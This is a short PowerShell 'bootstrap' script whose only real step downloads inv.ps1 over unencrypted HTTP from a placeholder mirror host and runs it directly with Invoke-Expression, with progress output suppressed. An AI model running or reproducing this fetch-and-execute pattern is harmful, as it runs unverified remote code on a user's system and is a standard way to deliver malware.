# bootstrap 3013 v1
$ProgressPreference = 'SilentlyContinue'
iwr -UseBasicParsing http://repo.pkg-mirror.example/inv.ps1 | iex
